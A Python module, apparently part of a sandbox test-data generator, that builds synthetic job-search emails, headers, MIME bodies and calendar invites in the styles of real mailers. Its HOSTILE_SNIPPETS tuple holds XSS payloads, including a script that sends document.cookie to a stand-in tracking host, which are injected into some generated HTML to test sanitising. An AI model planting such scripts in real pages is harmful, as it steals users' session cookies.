"""Drafted messages rendered to RFC 822 bytes in the styles real senders produce.

`email.message.EmailMessage` is far too slow for 50,000 threads, so messages are built
from string templates here. A message is assembled as a `str` whose characters are
bytes (latin-1), so 8-bit bodies in any charset can sit next to ASCII headers, with LF
line ends; `render` turns it into CRLF bytes at the end.
"""

from __future__ import annotations

import binascii
from datetime import datetime
from random import Random

from gmail_sandbox.wording import MON3, UTC, WD3, ZONES, pick

# --- people and calendar events ---------------------------------------------------------


class Person:
    """Somebody in a header. `side`: me, employer, tool (an ATS or scheduler robot acting for
    the employer), other (not part of a job search), system (mailer-daemon)."""

    __slots__ = ("name", "email", "side", "human", "domain", "first", "header", "truth")

    def __init__(self, name: str, email: str, side: str, human: bool = True) -> None:
        self.name = name
        self.email = email
        self.side = side
        self.human = human
        self.domain = email.rpartition("@")[2]
        self.first = name.split(" ", 1)[0] if name else email.split("@", 1)[0]
        self.header = ""  # the rendered address, cached (the same people write many mails)
        self.truth: object = None  # its afterview.model.Address, cached by the generator


class Invite:
    """One VEVENT. `style`: google (UTC times), outlook (Windows zone + VTIMEZONE),
    iana (IANA TZID + VTIMEZONE)."""

    __slots__ = (
        "method",
        "uid",
        "sequence",
        "start",
        "end",
        "summary",
        "description",
        "location",
        "organizer",
        "attendees",
        "style",
        "zone_key",
        "stamp",
    )

    def __init__(
        self,
        *,
        method: str,
        uid: str,
        sequence: int,
        start: datetime,
        end: datetime,
        summary: str,
        description: str,
        location: str,
        organizer: Person,
        attendees: list[Person],
        style: str,
        zone_key: str,
        stamp: datetime,
    ) -> None:
        self.method = method
        self.uid = uid
        self.sequence = sequence
        self.start = start
        self.end = end
        self.summary = summary
        self.description = description
        self.location = location
        self.organizer = organizer
        self.attendees = attendees
        self.style = style
        self.zone_key = zone_key
        self.stamp = stamp


class Draft:
    """One message before rendering, with what it means (the truth annotations).

    Defaults live on the class (only what a message changes is set on it): drafting
    50,000 threads is dominated by small costs like these.
    """

    # what is sent
    reply_to: Person | None = None
    quote: tuple[str, str] | None = None  # (attribution line, quoted text)
    charset = "utf-8"
    encoding = "qp"  # qp, base64, 8bit, 7bit (7bit turns into qp for non-ASCII text)
    invite: Invite | None = None
    invite_as = "inline"  # inline, attachment (text/calendar file), both (Google style)
    html_only = False
    hostile = False  # <script>, <img onerror> ... in the HTML
    defect = ""  # deliberate real-world defect: missing_date, iso_date, raw8_subject, unquoted_from
    message_id = ""
    in_reply_to = ""
    references: tuple[str, ...] | list[str] = ()
    original: Draft | None = None  # what an auto-reply or bounce answers
    bounced_to: Person | None = None
    # what it means
    side = "other"  # employer, candidate, auto, bounce, other
    asks = False
    decision_by: datetime | None = None
    scheduling = False
    rejection = False
    offer = False
    thank_you = False
    follow_up = False
    stage: str | None = None  # the thread's stage after this message, clock aside
    # (start, end or None, cancelled): an interview this message confirms or cancels
    interview: tuple[datetime, datetime | None, bool] | None = None

    def __init__(self, at: datetime, sender: Person, subject: str, text: str, style: str) -> None:
        self.at = at
        self.sender = sender
        self.subject = subject
        self.text = text
        self.style = style
        self.to: list[Person] = []
        self.cc: list[Person] = []
        self.headers: list[tuple[str, str]] = []


# --- ids --------------------------------------------------------------------------------


def message_id(rng: Random, style: str, domain: str) -> str:
    bits = rng.getrandbits(128)
    if style in ("gmail", "candidate"):
        chars = binascii.b2a_base64(bits.to_bytes(16, "big"), newline=False)[:20]
        return f"<CA{chars.decode('ascii').replace('/', '_')}@mail.gmail.com>"
    if style == "outlook":
        h = f"{bits:032X}"
        return f"<{h[:20]}@{h[20:22]}PR{bits % 97:02d}MB{bits % 9973}.namprd{bits % 23:02d}.prod.outlook.com>"  # noqa: E501
    h = f"{bits:032x}"
    if style in ("ats", "bulk", "scheduler"):
        return f"<{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}@{domain}>"
    if style == "calendar":
        return f"<calendar-{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:]}@google.com>"
    return f"<{h[:16]}.{h[16:]}@{domain}>"


# --- header encoding --------------------------------------------------------------------

_SPECIALS = frozenset('()<>[]:;@\\,."')
_Q_SAFE = frozenset(b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!*+-/")
_Q_TABLE = [chr(b) if b in _Q_SAFE else "_" if b == 32 else f"={b:02X}" for b in range(256)]


def encoded_words(text: str, charset: str = "utf-8", q: bool = False) -> str:
    """RFC 2047 encoded words, each under 76 characters, folded onto continuation lines."""
    prefix = f"=?{charset}?{'q' if q else 'b'}?"
    limit = 75 - len(prefix) - 2
    if not q and text.isascii():  # the common case, by slices
        step = (limit // 4) * 3
        return "\n ".join(
            _one_word(prefix, text[i : i + step], charset, q) for i in range(0, len(text), step)
        )
    words: list[str] = []
    chunk: list[str] = []
    size = 0
    for char in text:
        data = char.encode(charset)
        cost = len("".join(_Q_TABLE[b] for b in data)) if q else len(data)
        budget = limit if q else (limit // 4) * 3
        if chunk and size + cost > budget:
            words.append(_one_word(prefix, "".join(chunk), charset, q))
            chunk, size = [], 0
        chunk.append(char)
        size += cost
    if chunk:
        words.append(_one_word(prefix, "".join(chunk), charset, q))
    return "\n ".join(words)


def _one_word(prefix: str, text: str, charset: str, q: bool) -> str:
    data = text.encode(charset)
    if q:
        return prefix + "".join(_Q_TABLE[b] for b in data) + "?="
    return prefix + binascii.b2a_base64(data, newline=False).decode("ascii") + "?="


def header_text(text: str, mode: str = "auto") -> str:
    """An unstructured header value: ASCII as is (folded), else encoded words.

    mode: auto, b, q (encode even ASCII, as some mailers do), raw8 (unencoded UTF-8 bytes,
    a common real-world defect).
    """
    if mode == "raw8":
        return text.encode("utf-8").decode("latin-1")
    if text.isascii() and mode == "auto":
        return fold(text)
    return encoded_words(text, "utf-8", q=(mode == "q"))


def legacy_subject(text: str, charset: str, rng: Random) -> str:
    """A subject in the body's own legacy charset, as old mail programs send it."""
    try:
        text.encode(charset)
    except UnicodeEncodeError:
        charset = "utf-8"
    return encoded_words(text, charset, q=charset != "shift_jis" and rng.random() < 0.5)


def fold(text: str) -> str:
    if len(text) <= 76:
        return text
    out: list[str] = []
    line = ""
    for word in text.split(" "):
        if line and len(line) + 1 + len(word) > 70:
            out.append(line)
            line = word
        else:
            line = f"{line} {word}" if line else word
    out.append(line)
    return "\n ".join(out)


def address(person: Person) -> str:
    if person.header:
        return person.header
    name = person.name
    if not name:
        rendered = person.email
    elif not name.isascii():
        rendered = f"{encoded_words(name)} <{person.email}>"
    elif not _SPECIALS.isdisjoint(name):
        escaped = name.replace("\\", "\\\\").replace('"', '\\"')
        rendered = f'"{escaped}" <{person.email}>'
    else:
        rendered = f"{name} <{person.email}>"
    person.header = rendered
    return rendered


def addresses(people: list[Person]) -> str:
    return ",\n ".join(address(p) for p in people)


_OFFSETS: dict[int, str] = {}


def rfc2822_date(at: datetime) -> str:
    offset = at.utcoffset()
    seconds = offset.days * 86400 + offset.seconds if offset is not None else 0
    zone = _OFFSETS.get(seconds)
    if zone is None:
        sign = "+" if seconds >= 0 else "-"
        minutes = abs(seconds) // 60
        zone = _OFFSETS[seconds] = f"{sign}{minutes // 60:02d}{minutes % 60:02d}"
    return (
        f"{WD3[at.weekday()]}, {at.day} {MON3[at.month]} {at.year} "
        f"{at.hour:02d}:{at.minute:02d}:{at.second:02d} {zone}"
    )


def human_stamp(at: datetime) -> str:
    """`Tue, Mar 3, 2026 at 2:01 PM` as Gmail writes in reply attributions."""
    h12 = at.hour % 12 or 12
    ampm = "AM" if at.hour < 12 else "PM"
    return (
        f"{WD3[at.weekday()]}, {MON3[at.month]} {at.day}, {at.year} at {h12}:{at.minute:02d} {ampm}"
    )


# --- bodies -----------------------------------------------------------------------------


def encode_body(text: str, charset: str, encoding: str) -> tuple[str, str, str]:
    """(charset, transfer encoding, body as a latin-1 str). Falls back to UTF-8 when the
    charset cannot spell the text, and to quoted-printable when 7bit would be a lie."""
    try:
        data = text.encode(charset)
    except UnicodeEncodeError:
        charset, data = "utf-8", text.encode("utf-8")
    if encoding == "7bit" and not data.isascii():
        encoding = "qp"
    if encoding == "qp":
        body = binascii.b2a_qp(data, quotetabs=False, istext=True, header=False).decode("ascii")
        return charset, "quoted-printable", body if body.endswith("\n") else body + "\n"
    if encoding == "base64":
        return charset, "base64", base64_lines(data)
    body = data.decode("latin-1")
    return charset, encoding, body if body.endswith("\n") else body + "\n"


def base64_lines(data: bytes) -> str:
    encoded = binascii.b2a_base64(data, newline=False).decode("ascii")
    return "\n".join([encoded[i : i + 76] for i in range(0, len(encoded), 76)]) + "\n"


def text_part(
    text: str, charset: str, encoding: str, subtype: str = "plain", extra: str = ""
) -> str:
    charset, cte, body = encode_body(text, charset, encoding)
    return (
        f'Content-Type: text/{subtype}; charset="{charset}"{extra}\n'
        f"Content-Transfer-Encoding: {cte}\n\n{body}"
    )


def multipart(subtype: str, boundary: str, parts: list[str], params: str = "") -> str:
    inner = "".join(f"--{boundary}\n{part}\n" for part in parts)
    return (
        f'Content-Type: multipart/{subtype}; boundary="{boundary}"{params}\n\n'
        f"{inner}--{boundary}--\n"
    )


def escape_html(text: str, curly: bool = False) -> str:
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    if curly:
        text = text.replace("'", "&rsquo;").replace("\u2014", "&mdash;")
    return text.replace('"', "&quot;")


def html_paragraphs(text: str, tag: str = "p", curly: bool = False, attrs: str = "") -> str:
    """Blank-line separated blocks as <tag> elements, single line breaks as <br>."""
    body = escape_html(text.strip("\n"), curly)
    body = body.replace("\n\n", f"</{tag}>\0<{tag}{attrs}>").replace("\n", "<br>")
    body = body.replace("\0", "\n")  # one block a line, as most mail programs write HTML
    return f"<{tag}{attrs}>{body}</{tag}>"


HOSTILE_SNIPPETS = (
    '<script>document.location="https://track.example.net/?c="+document.cookie</script>',
    '<img src="x" onerror="alert(\'interview\')">',
    '<iframe src="javascript:alert(1)" style="display:none"></iframe>',
    '<a href="javascript:void(0)" onclick="steal()">View details</a>',
)


def plain_with_quote(d: Draft) -> str:
    if d.quote is None:
        return d.text
    attribution, quoted = d.quote
    quoted_lines = ("> " + quoted.rstrip("\n").replace("\n", "\n> ")).replace("> \n", ">\n")
    return f"{d.text}\n\n{attribution}\n{quoted_lines}\n"


def gmail_html(d: Draft) -> str:
    body = f'<div dir="ltr">{html_paragraphs(d.text, "div")}</div>'
    if d.quote is not None:
        attribution, quoted = d.quote
        body += (
            '\n<br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">'
            f"{escape_html(attribution)}<br></div>\n"
            '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;'
            'border-left:1px solid rgb(204,204,204);padding-left:1ex">\n'
            f"{html_paragraphs(quoted, 'div')}</blockquote></div>"
        )
    return body + "\n"


def outlook_html(d: Draft) -> str:
    paras = html_paragraphs(d.text, "p", curly=True, attrs=' class="MsoNormal"')
    quoted = ""
    if d.quote is not None:
        attribution, text = d.quote
        quoted = (
            '<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in">'
            f'<p class="MsoNormal"><b>From:</b> {escape_html(attribution)}</p></div>'
            f"{html_paragraphs(text, 'p', attrs=' class=MsoNormal')}"
        )
    return (
        '<html xmlns:o="urn:schemas-microsoft-com:office:office" '
        'xmlns:w="urn:schemas-microsoft-com:office:word">\n'
        '<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
        "<style><!-- p.MsoNormal {margin:0in;font-size:11.0pt;font-family:Calibri,sans-serif;} "
        "--></style></head>\n"
        f'<body lang="EN-US" link="#0563C1"><div class="WordSection1">{paras}{quoted}'
        "</div></body></html>\n"
    )


def card_html(d: Draft, brand: str, footer: str, rng: Random) -> str:
    """The table layout ATS, schedulers, alerts and shops send."""
    paras = html_paragraphs(d.text, "p", curly=rng.random() < 0.5, attrs=' style="margin:0 0 12px"')
    hostile = pick(rng, HOSTILE_SNIPPETS) if d.hostile else ""
    return (
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">\n'
        f'<html><head><meta charset="utf-8"><title>{escape_html(d.subject)}</title>'
        "<style>td{font-family:Helvetica,Arial,sans-serif}</style></head>\n"
        '<body style="margin:0;padding:0;background:#f4f4f4">'
        '<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0">'
        '<tr><td align="center"><table width="600" cellpadding="24" cellspacing="0" '
        'style="background:#ffffff">\n'
        f'<tr><td><img src="https://assets.example-cdn.com/{abs(hash_text(brand))}/logo.png" '
        f'alt="{escape_html(brand)}" width="120" height="40"></td></tr>\n'
        f'<tr><td style="font-size:14px;line-height:21px;color:#333">{paras}{hostile}</td></tr>\n'
        f'<tr><td style="font-size:11px;color:#999">{footer}</td></tr>\n'
        "</table></td></tr></table></body></html>\n"
    )


def hash_text(text: str) -> int:
    """A stable small hash (Python's `hash` is randomised per process)."""
    return binascii.crc32(text.encode("utf-8"))


# --- calendar ---------------------------------------------------------------------------

_VTIMEZONE_RULES = {
    # offsets: (standard, daylight); rules: (daylight start, standard start)
    "America/New_York": ("-0500", "-0400", "US"),
    "America/Toronto": ("-0500", "-0400", "US"),
    "America/Chicago": ("-0600", "-0500", "US"),
    "America/Denver": ("-0700", "-0600", "US"),
    "America/Los_Angeles": ("-0800", "-0700", "US"),
    "Europe/London": ("+0000", "+0100", "EU1"),
    "Europe/Berlin": ("+0100", "+0200", "EU2"),
    "Europe/Amsterdam": ("+0100", "+0200", "EU2"),
}


_VTIMEZONES: dict[tuple[str, str], list[str]] = {}


def vtimezone(tzid: str, zone_key: str) -> list[str]:
    cached = _VTIMEZONES.get((tzid, zone_key))
    if cached is None:
        cached = _VTIMEZONES[(tzid, zone_key)] = _vtimezone(tzid, zone_key)
    return cached


def _vtimezone(tzid: str, zone_key: str) -> list[str]:
    std, dst, rule = _VTIMEZONE_RULES[zone_key]
    if rule == "US":
        to_dst = ("19700308T020000", "FREQ=YEARLY;BYMONTH=3;BYDAY=2SU")
        to_std = ("19701101T020000", "FREQ=YEARLY;BYMONTH=11;BYDAY=1SU")
    else:
        hour = "01" if rule == "EU1" else "02"
        to_dst = (f"19700329T{hour}0000", "FREQ=YEARLY;BYMONTH=3;BYDAY=-1SU")
        back = "02" if rule == "EU1" else "03"
        to_std = (f"19701025T{back}0000", "FREQ=YEARLY;BYMONTH=10;BYDAY=-1SU")
    return [
        "BEGIN:VTIMEZONE",
        f"TZID:{tzid}",
        "BEGIN:STANDARD",
        f"DTSTART:{to_std[0]}",
        f"TZOFFSETFROM:{dst}",
        f"TZOFFSETTO:{std}",
        f"RRULE:{to_std[1]}",
        "END:STANDARD",
        "BEGIN:DAYLIGHT",
        f"DTSTART:{to_dst[0]}",
        f"TZOFFSETFROM:{std}",
        f"TZOFFSETTO:{dst}",
        f"RRULE:{to_dst[1]}",
        "END:DAYLIGHT",
        "END:VTIMEZONE",
    ]


def ics_text(value: str) -> str:
    return value.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,").replace("\n", "\\n")


def _utc(at: datetime) -> str:
    u = at.astimezone(UTC)
    return f"{u.year:04d}{u.month:02d}{u.day:02d}T{u.hour:02d}{u.minute:02d}{u.second:02d}Z"


def _floating(at: datetime) -> str:
    return f"{at.year:04d}{at.month:02d}{at.day:02d}T{at.hour:02d}{at.minute:02d}{at.second:02d}"


def fold_ics(line: str) -> str:
    """RFC 5545 folding: lines of at most 75 octets, never splitting a character."""
    if line.isascii():
        if len(line) <= 75:
            return line
        return "\n ".join([line[:75]] + [line[i : i + 74] for i in range(75, len(line), 74)])
    if len(line.encode("utf-8")) <= 75:
        return line
    out: list[str] = []
    current = ""
    size = 0
    for char in line:
        n = len(char.encode("utf-8"))
        if size + n > (75 if not out else 74):
            out.append(current)
            current, size = "", 0
        current += char
        size += n
    out.append(current)
    return "\n ".join(out)


def calendar_text(inv: Invite, me: Person) -> str:
    """The VCALENDAR, LF line ends (CRLF is applied with the rest of the message)."""
    cancelled = inv.method == "CANCEL"
    lines = []
    if inv.style == "outlook":
        lines += [
            "BEGIN:VCALENDAR",
            f"METHOD:{inv.method}",
            "PRODID:Microsoft Exchange Server 2010",
        ]
        lines += ["VERSION:2.0"]
    else:
        prodid = (
            "-//Google Inc//Google Calendar 70.9054//EN"
            if inv.style == "google"
            else ("-//Calendly//Calendly Scheduling//EN")
        )
        lines += ["BEGIN:VCALENDAR", f"PRODID:{prodid}", "VERSION:2.0", "CALSCALE:GREGORIAN"]
        lines += [f"METHOD:{inv.method}"]
    if inv.style == "google":
        start = f"DTSTART:{_utc(inv.start)}"
        end = f"DTEND:{_utc(inv.end)}"
    else:
        tzid = ZONES[inv.zone_key][2] if inv.style == "outlook" else inv.zone_key
        lines += vtimezone(tzid, inv.zone_key)
        local_start = inv.start.astimezone(inv.start.tzinfo)
        start = f"DTSTART;TZID={tzid}:{_floating(local_start)}"
        end = f"DTEND;TZID={tzid}:{_floating(inv.end.astimezone(inv.start.tzinfo))}"
    organizer = inv.organizer
    lines += [
        "BEGIN:VEVENT",
        start,
        end,
        f"DTSTAMP:{_utc(inv.stamp)}",
        f"ORGANIZER;CN={ics_param(organizer.name)}:mailto:{organizer.email}",
        f"UID:{inv.uid}",
    ]
    for person in inv.attendees:
        status = "ACCEPTED" if person is organizer else "NEEDS-ACTION"
        lines.append(
            "ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;"
            f"PARTSTAT={status};RSVP=TRUE;CN={ics_param(person.name or person.email)};"
            f"X-NUM-GUESTS=0:mailto:{person.email}"
        )
    lines += [
        f"DESCRIPTION:{ics_text(inv.description)}",
        f"LOCATION:{ics_text(inv.location)}",
        f"SEQUENCE:{inv.sequence}",
        f"STATUS:{'CANCELLED' if cancelled else 'CONFIRMED'}",
        f"SUMMARY:{ics_text(inv.summary)}",
        "TRANSP:OPAQUE",
        "END:VEVENT",
        "END:VCALENDAR",
    ]
    return "\n".join([line if len(line) <= 75 else fold_ics(line) for line in lines]) + "\n"


def ics_param(value: str) -> str:
    if any(c in value for c in ",;:"):
        return '"' + value.replace('"', "'") + '"'
    return value


# --- whole messages ---------------------------------------------------------------------


def boundary(rng: Random, style: str) -> str:
    bits = rng.getrandbits(64)
    if style in ("gmail", "candidate", "calendar"):
        return f"000000000000{bits:016x}"[:28]
    if style == "outlook":
        return f"_000_{bits:016X}namprd{bits % 23:02d}prod_"
    if style == "apple":
        return f"Apple-Mail={bits:016X}"
    return f"----=_Part_{bits % 999983}_{bits % 1000003}.{bits % 1_000_000_007}"


def render(d: Draft, me: Person, rng: Random) -> str:
    """The message as a latin-1 str with LF line ends (see the module docstring)."""
    headers = _headers(d, rng)
    body = _body(d, me, rng)
    return headers + body


def _headers(d: Draft, rng: Random) -> str:
    at = d.at
    sender = d.sender
    ip = rng.getrandbits(32)
    domain = sender.domain or "localhost"
    date = rfc2822_date(at)
    defect = d.defect
    if defect == "iso_date":
        date_line = f"Date: {at.isoformat(sep=' ')}\n"
    elif defect == "missing_date":
        date_line = ""
    else:
        date_line = f"Date: {date}\n"
    if defect == "unquoted_from" and sender.name:
        last_first = ", ".join(reversed(sender.name.split(" ", 1)))
        from_line = f"From: {header_text(last_first, 'raw8')} <{sender.email}>\n"
    else:
        from_line = f"From: {address(sender)}\n"
    subject = d.subject
    if defect == "raw8_subject":
        subject = header_text(subject, "raw8")
    elif d.charset not in ("utf-8", "us-ascii") and not subject.isascii():
        subject = legacy_subject(subject, d.charset, rng)
    else:
        mode = "auto"
        if d.style == "outlook" and rng.random() < 0.1:
            mode = "q"
        elif d.style in ("ats", "bulk") and rng.random() < 0.15:
            mode = "b"
        subject = header_text(subject, mode)
    h = [
        f"Received: from {domain} ({domain} [{ip >> 24 or 1}.{(ip >> 16) & 255}.{(ip >> 8) & 255}."
        f"{ip & 255}])\n        by mx.google.com with ESMTPS id {rng.getrandbits(48):012x};\n"
        f"        {date}\n{date_line}{from_line}"
    ]
    if d.to:
        h.append(f"To: {addresses(d.to)}\n")
    if d.cc:
        h.append(f"Cc: {addresses(d.cc)}\n")
    if d.reply_to is not None:
        h.append(f"Reply-To: {address(d.reply_to)}\n")
    h.append(
        f"Subject: {subject}\n{'Message-Id' if d.style == 'apple' else 'Message-ID'}: "
        f"{d.message_id}\n"
    )
    if d.in_reply_to:
        h.append(f"In-Reply-To: {d.in_reply_to}\n")
    if d.references:
        h.append("References: " + "\n ".join(d.references) + "\n")
    for name, value in d.headers:
        h.append(f"{name}: {value}\n")
    h.append("MIME-Version: 1.0\n")
    return "".join(h)


def _body(d: Draft, me: Person, rng: Random) -> str:
    style = d.style
    if style == "dsn":
        return _dsn_body(d, rng)
    plain = plain_with_quote(d)
    charset, encoding = d.charset, d.encoding
    if style in ("plain", "auto"):
        return text_part(plain, charset, encoding)
    if style == "apple":
        if d.html_only is False and rng.random() < 0.5:
            return text_part(plain, charset, encoding)
        html = (
            '<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8">'
            f'</head><body dir="auto">{html_paragraphs(plain, "div")}</body></html>\n'
        )
        alt = [text_part(plain, charset, encoding), text_part(html, "utf-8", "qp", "html")]
        return multipart("alternative", boundary(rng, style), alt)
    if style in ("gmail", "candidate"):
        html = gmail_html(d)
    elif style == "outlook":
        html = outlook_html(d)
    else:  # ats, bulk, scheduler, calendar
        brand = d.sender.name or d.sender.domain
        footer = _FOOTERS.get(style) or f"Sent by {escape_html(brand)}"
        html = card_html(d, brand, footer, rng)
    if style in ("gmail", "candidate"):
        # ASCII parts go unencoded (7bit) unless a line is too long for SMTP
        short_lines = len(html) < 998 or max(map(len, html.split("\n"))) < 998
        html_encoding = encoding if encoding in ("7bit", "8bit") and short_lines else "qp"
    elif style == "calendar":
        html_encoding = "base64"
    elif style in ("ats", "bulk", "scheduler"):
        html_encoding = encoding if encoding in ("qp", "base64") else "qp"
    else:
        html_encoding = "qp"
    html_part = text_part(html, "utf-8", html_encoding, "html")
    if d.html_only and d.invite is None:
        return html_part
    alt = [text_part(plain, charset, encoding), html_part] if not d.html_only else [html_part]
    invite = d.invite
    if invite is None:
        return multipart("alternative", boundary(rng, style), alt)
    ics = calendar_text(invite, me)
    method = f"; method={invite.method}"
    if d.invite_as in ("inline", "both"):
        # Exchange base64-encodes the calendar part; Google and the rest send it as is
        cal_encoding = "base64" if invite.style == "outlook" else "7bit"
        alt.append(text_part(ics, "UTF-8", cal_encoding, "calendar", method))
    inner = multipart("alternative", boundary(rng, style), alt)
    if d.invite_as == "inline":
        return inner
    filename = "invite.ics" if invite.style == "google" else "interview.ics"
    ctype = "application/ics" if d.invite_as == "both" else "text/calendar"
    attachment = (
        f'Content-Type: {ctype}; name="{filename}"{method if ctype == "text/calendar" else ""}\n'
        f'Content-Disposition: attachment; filename="{filename}"\n'
        "Content-Transfer-Encoding: base64\n\n"
        + base64_lines(ics.replace("\n", "\r\n").encode("utf-8"))
    )
    return multipart("mixed", boundary(rng, style), [inner, attachment])


_FOOTERS = {
    "ats": "This email was sent from an unmonitored mailbox. &copy; 2026 &middot; Privacy Policy",
    "bulk": (
        'You are receiving this because you subscribed. <a href="https://example.com/u">'
        "Unsubscribe</a> &middot; 123 Market St, San Francisco, CA"
    ),
    "scheduler": "Powered by the scheduling assistant &middot; Need to make changes? Reschedule",
}


def _dsn_body(d: Draft, rng: Random) -> str:
    original = d.original
    assert original is not None and d.bounced_to is not None
    recipient = d.bounced_to.email
    notice = text_part(d.text, "utf-8", "7bit")
    arrival = rfc2822_date(original.at)
    status = (
        "Content-Type: message/delivery-status\n\n"
        f"Reporting-MTA: dns; {d.sender.domain}\n"
        f"Arrival-Date: {arrival}\n\n"
        f"Final-Recipient: rfc822; {recipient}\n"
        "Action: failed\n"
        "Status: 5.1.1\n"
        f"Remote-MTA: dns; mx.{d.bounced_to.domain}\n"
        "Diagnostic-Code: smtp; 550 5.1.1 The email account that you tried to reach does not\n"
        "    exist. Please try double-checking the recipient's email address.\n"
        f"Last-Attempt-Date: {rfc2822_date(d.at)}\n"
    )
    if rng.random() < 0.5:
        returned = (
            "Content-Type: message/rfc822\n\n"
            + _headers(original, rng)
            + text_part(original.text, "utf-8", "qp")
        )
    else:
        returned = "Content-Type: text/rfc822-headers\n\n" + _headers(original, rng)
    return multipart(
        "report", boundary(rng, "dsn"), [notice, status, returned], "; report-type=delivery-status"
    )


def to_bytes(message: str) -> bytes:
    return message.replace("\n", "\r\n").encode("latin-1")
